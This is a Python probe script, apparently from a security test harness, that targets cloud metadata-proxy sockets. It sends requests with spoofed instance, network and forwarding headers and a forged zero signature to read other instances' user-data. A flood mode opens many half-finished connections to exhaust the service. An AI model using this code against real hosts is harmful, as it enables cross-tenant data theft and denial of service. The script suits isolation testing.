"""A user of the host at sockets. Arguments: ask or flood, a list of sockets, a list of [network, address, instance].

Prints an object: for each socket what it said, in base64; nothing where it let nobody in."""

import base64
import json
import resource
import socket
import sys
import time

TARGETS = ["/latest/user-data", "/openstack/latest/meta_data.json", "/trace", "/inventory/instances", "/metrics", "/"]


def connect(name, patience):
    if name.startswith("/"):
        made = socket.socket(socket.AF_UNIX)
        made.settimeout(patience)
        made.connect(name)
    else:
        host, port = name.rsplit(":", 1)
        made = socket.create_connection((host.strip("[]"), int(port)), patience)
    return made


def exchange(name, request):
    try:
        with connect(name, 3) as made:
            made.sendall(request)
            said = b""
            while len(said) < 1 << 20:
                part = made.recv(65536)
                if not part:
                    break
                said += part
            return said
    except PermissionError:
        return None
    except OSError as error:
        return str(error).encode() if not isinstance(error, (ConnectionRefusedError, FileNotFoundError)) else None


def ask(name, names):
    told = []
    for network, address, instance in names:
        headers = [
            f"X-Neutron-Network-ID: {network}\r\nX-Forwarded-For: {address}\r\n",
            f"X-Instance-ID: {instance}\r\nX-Tenant-ID: p\r\nX-Instance-ID-Signature: {'0' * 64}\r\n",
        ]
        for header in headers:
            for target in TARGETS[:1]:
                said = exchange(name, f"GET {target} HTTP/1.1\r\nHost: x\r\n{header}Connection: close\r\n\r\n".encode())
                if said is None:
                    return told
                told.append(said)
    for target in TARGETS[1:]:
        if target != "/trace":
            said = exchange(name, f"GET {target} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode())
            told.append(said or b"")
    return told


def flood(name, names, held):
    opened = 0
    end = time.monotonic() + 3
    for number in range(int(names[0][1])):
        if time.monotonic() > end:
            break
        try:
            held.append(connect(name, 0.2))
            held[-1].sendall([b"", b"GET / HTTP/1.1\r\nHo", b"GET /latest/user-data HTTP/1.1\r\nHost: x\r\n\r\n"][number % 3])
            opened += 1
        except PermissionError:
            return []
        except OSError:
            pass
    return [f"{opened} connections".encode()] if opened else []


what, sockets, names = sys.argv[1], json.loads(sys.argv[2]), json.loads(sys.argv[3])
limit = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
resource.setrlimit(resource.RLIMIT_NOFILE, (limit, limit))
held = []
told = {name: ask(name, names) if what == "ask" else flood(name, names, held) for name in sockets}
if held:
    time.sleep(2)
print(json.dumps({name: [base64.b64encode(one).decode() for one in said] for name, said in told.items()}))
